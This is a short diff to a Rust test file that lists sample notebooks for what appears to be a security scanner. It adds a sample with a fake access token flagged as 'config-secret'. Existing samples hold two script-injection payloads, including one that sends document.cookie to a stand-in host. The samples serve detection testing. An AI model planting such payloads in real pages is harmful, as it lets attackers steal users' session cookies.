@@ -27,6 +27,7 @@ pub(crate) fn samples() -> Vec<Sample> {
             "<script>fetch('//x/?' + document.cookie)</script>",
             &["notebook-active-output"],
         ),
+        notebook("a token", "token = 'hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567'", "", &["config-secret"]),
         notebook("a picture", "x = 1", "<img src=x onerror=f()>", &["notebook-active-output"]),
     ]
 }
